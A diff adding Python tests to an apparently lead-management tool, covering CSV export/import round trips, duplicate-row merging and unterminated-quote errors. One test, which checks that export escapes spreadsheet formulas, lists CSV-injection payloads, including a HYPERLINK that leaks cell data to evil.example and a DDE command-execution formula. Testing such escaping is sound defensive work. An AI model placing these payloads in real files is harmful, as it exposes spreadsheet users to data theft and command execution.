@@ -255,6 +255,25 @@ def test_update_lead(seeded):
             update_lead(session, acme, other.id, {"email": "FAY@j.example"})
 
 
+def test_a_new_score_brings_its_tier_even_none(seeded):
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        lead = {"name": "Al Bo", "email": "al@b.example"}
+        upsert_leads(session, acme, [{**lead, "score": 90, "tier": "A"}], source=SOURCE)
+        # seen again without a judgement: score and tier stay
+        upsert_leads(session, acme, [lead], source={"provider": "apollo"})
+        assert [(x.score, x.tier) for x in find_leads(session, acme)] == [(90, "A")]
+        # re-scored below every tier threshold: the old tier must not pick him for outreach
+        upsert_leads(session, acme, [{**lead, "score": 20, "tier": None}], source=SOURCE)
+        al = get_lead(session, acme, "al@b.example")
+        assert (al.score, al.tier) == (20, None)
+        assert "tier" not in al.data["_provenance"]
+        assert find_leads(session, acme, tier="A") == []
+        # a tier alone (no score) still sets it, and keeps the score
+        upsert_leads(session, acme, [{**lead, "tier": "c"}], source={"provider": "manual"})
+        assert (al.score, al.tier, al.data["_provenance"]["tier"]) == (20, "C", "manual")
+
+
 def test_export_csv_and_json(seeded):
     with seeded.session() as session:
         acme = resolve_customer(session, "acme")
@@ -284,6 +303,117 @@ def test_export_csv_and_json(seeded):
         assert actions[-1] == "leads.export"
 
 
+ROUND_TRIP_LEADS = [
+    {
+        "name": "Hal Ek",
+        "email": "hal@k.example",
+        "phone": "+15550100",
+        "company": "K Co",
+        "domain": "k.example",
+        "score": 85,
+        "tier": "A",
+        "data": {
+            "size": 3,
+            "founded": 2016,
+            "revenue": 4.5,
+            "growth": -3,
+            "remote": True,
+            "public": False,
+            "zip": "02134",
+            "dial": "+1",
+            "price": "1.50",
+            "note": "nan",
+            "technologies": ["AWS", "Stripe"],
+            "location": {"city": "Boston", "country": "US"},
+        },
+    },
+    {"name": "Ida Fox", "domain": "f.example", "data": {"size": 12, "industry": "SaaS"}},
+]
+
+
+def _csv_without_last_seen(text: str) -> list[dict[str, str]]:
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    for row in rows:
+        assert row.pop("last_seen")
+    return rows
+
+
+def test_export_then_import_changes_nothing_but_last_seen(seeded, tmp_path):
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        upsert_leads(session, acme, ROUND_TRIP_LEADS, source=SOURCE)
+        before = {lead.email or lead.name: lead_to_dict(lead) for lead in find_leads(session, acme)}
+        out = io.StringIO()
+        export_leads(session, acme, "csv", out)
+    path = tmp_path / "exp.csv"
+    path.write_text(out.getvalue())
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        report = import_leads_csv(session, acme, path)
+        assert (report.imported, report.updated, report.rejected) == (0, 2, [])
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        after = {lead.email or lead.name: lead_to_dict(lead) for lead in find_leads(session, acme)}
+        again = io.StringIO()
+        export_leads(session, acme, "csv", again)
+    assert _csv_without_last_seen(again.getvalue()) == _csv_without_last_seen(out.getvalue())
+    for key, lead in before.items():
+        assert {**after[key], "last_seen": None} == {**lead, "last_seen": None}
+    hal = after["hal@k.example"]["data"]
+    assert (hal["size"], hal["founded"], hal["revenue"], hal["growth"]) == (3, 2016, 4.5, -3)
+    assert (hal["remote"], hal["public"]) == (True, False)
+    assert (hal["zip"], hal["dial"], hal["price"], hal["note"]) == ("02134", "+1", "1.50", "nan")
+    assert set(hal["_provenance"].values()) == {"local"}
+    assert not {"id", "first_seen", "last_seen"} & set(hal)
+
+
+FORMULAS = {
+    "link": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "dde": "=cmd|' /C calc'!A0",
+    "plus": "+1+1",
+    "minus": "-2+3",
+    "at": "@SUM(1,2)",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+    "quoted": "'=already quoted",
+    "dash": "-",
+}
+# What a spreadsheet is handed: each formula behind a "'" (one more for the quoted one).
+ESCAPED = {key: "'" + value for key, value in FORMULAS.items()}
+NOT_FORMULAS = {"negative": -3, "negative_float": -1.5, "text": "'-5", "word": "a=b"}
+
+
+def test_csv_export_neutralises_formulas_and_import_restores_them(seeded, tmp_path):
+    lead = {"name": "=Evil Co", "email": "eve@e.example", "phone": "+15550100"}
+    data = {**FORMULAS, **NOT_FORMULAS, "@key": "x"}
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        upsert_leads(session, acme, [{**lead, "data": data}], source=SOURCE)
+        out = io.StringIO()
+        export_leads(session, acme, "csv", out)
+    header, row = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
+    cells = dict(zip(header, row, strict=True))
+    assert {key: cells[key] for key in FORMULAS} == ESCAPED
+    assert cells["name"] == "'=Evil Co" and cells["phone"] == "+15550100"
+    assert (cells["negative"], cells["negative_float"]) == ("-3", "-1.5")
+    assert (cells["text"], cells["word"]) == ("'-5", "a=b")
+    assert "'@key" in header and cells["'@key"] == "x"
+
+    path = tmp_path / "exp.csv"
+    path.write_text(out.getvalue(), newline="")
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        report = import_leads_csv(session, acme, path)
+        assert (report.imported, report.updated, report.rejected) == (0, 1, [])
+        eve = get_lead(session, acme, "eve@e.example")
+        assert eve.name == "=Evil Co"
+        assert {k: v for k, v in eve.data.items() if k != "_provenance"} == data
+        assert set(eve.data["_provenance"].values()) == {"local"}
+        again = io.StringIO()
+        export_leads(session, acme, "csv", again)
+    assert _csv_without_last_seen(again.getvalue()) == _csv_without_last_seen(out.getvalue())
+
+
 CSV_TEXT = (
     "Name,EMAIL,Company,Domain,Score,Tier,Industry,technologies\n"
     'Ivy Ng,ivy@l.example,L Co,l.example,80,a,SaaS,"[""AWS""]"\n'
@@ -304,6 +434,7 @@ def test_import_csv(seeded, tmp_path):
         acme = resolve_customer(session, "acme")
         report = import_leads_csv(session, acme, path, actor="tester")
         assert (report.imported, report.updated) == (2, 0)
+        assert report.merged == [(9, 2)]  # Ivy again, upper-cased
         assert report.rejected == [
             (4, "invalid email address 'not-an-email'"),
             (5, "score '150' is not a whole number from 0 to 100"),
@@ -322,6 +453,92 @@ def test_import_csv(seeded, tmp_path):
     with seeded.session() as session:
         again = import_leads_csv(session, resolve_customer(session, "acme"), path)
         assert (again.imported, again.updated) == (0, 2)
+
+
+def test_import_reports_rows_merged_into_an_earlier_row(seeded, tmp_path):
+    path = tmp_path / "dups.csv"
+    path.write_text(
+        "name,email,domain,title\n"
+        "Ann Lee,ann@a.example,a.example,\n"  # row 2
+        "Bob Roe,bob@b.example,,\n"
+        "Cy Poe,,c.example,\n"
+        "Ann Lee,ann@a.example,,CEO\n"  # row 5: same email as row 2
+        "Ann Lee,ANN@A.EXAMPLE,,\n"  # row 6: upper-cased
+        "cy  poe,,www.c.example,CTO\n"  # row 7: same domain and name as row 4
+        "Ann Lee,,a.example,\n"  # row 8: no email, but row 2's domain and name
+        "Dee,nope,,\n"  # row 9: rejected
+    )
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        report = import_leads_csv(session, acme, path)
+        assert (report.imported, report.updated) == (3, 0)
+        assert report.merged == [(5, 2), (6, 2), (7, 4), (8, 2)]
+        assert report.rejected == [(9, "invalid email address 'nope'")]
+        assert report.to_dict()["merged"] == [
+            {"row": 5, "merged_into": 2},
+            {"row": 6, "merged_into": 2},
+            {"row": 7, "merged_into": 4},
+            {"row": 8, "merged_into": 2},
+        ]
+        assert get_lead(session, acme, "ann@a.example").title == "CEO"
+        assert _count(session) == 3
+
+
+@pytest.mark.parametrize(
+    ("bad_row", "line", "after"),
+    [
+        ('"Bob,bob@b.example,b.example\n', 3, 2),  # the quote opens the row
+        ('Bob,"bob@b.example,b.example\n', 3, 2),  # or a later field
+        ('Bob,bob@b.example,"b.example\n', 3, 2),  # or the last
+    ],
+)
+def test_import_reports_an_unterminated_quoted_field(seeded, tmp_path, bad_row, line, after):
+    path = tmp_path / "quote.csv"
+    path.write_text(
+        "name,email,domain\n"
+        "Ann,ann@a.example,a.example\n"
+        + bad_row
+        + "Cy,cy@c.example,c.example\n"
+        + 'Dee,dee@d.example,"d.example"\n'
+    )
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        report = import_leads_csv(session, acme, path)
+        assert (report.imported, report.updated) == (1, 0)
+        assert report.rejected == [
+            (
+                3,
+                f"an unterminated quoted field: the quote opening it on line {line} is never "
+                f"closed, so the {after} line(s) after it were read into it; close it and "
+                "import again",
+            )
+        ]
+        assert [lead.email for lead in find_leads(session, acme)] == ["ann@a.example"]
+
+
+def test_import_unterminated_quote_on_the_last_line_and_in_the_header(seeded, tmp_path):
+    path = tmp_path / "quote.csv"
+    path.write_text('email,name\nann@a.example,Ann\nbob@b.example,"Bob')
+    with seeded.session() as session:
+        report = import_leads_csv(session, resolve_customer(session, "acme"), path)
+        assert report.rejected == [
+            (3, "an unterminated quoted field: the quote opening it on line 3 is never "
+                "closed; close it and import again")
+        ]  # fmt: skip
+        # closed quotes, "" inside, text after a closing quote and a value over two lines
+        # are no such thing
+        path.write_text(
+            'email,name,note\n"c@c.example","C ""Cy"" Poe",\nd@d.example,"Dee" Oz,"two\nlines"\n'
+        )
+        report = import_leads_csv(session, resolve_customer(session, "acme"), path)
+        assert (report.imported, report.rejected) == (2, [])
+        assert (
+            get_lead(session, resolve_customer(session, "acme"), "d@d.example").data["note"]
+            == "two\nlines"
+        )
+        path.write_text('email,"name\nann@a.example,Ann\n')
+        with pytest.raises(UsageError, match="line 1: the header has a quoted field that is"):
+            import_leads_csv(session, resolve_customer(session, "acme"), path)
 
 
 def test_import_csv_semicolons(seeded, tmp_path):
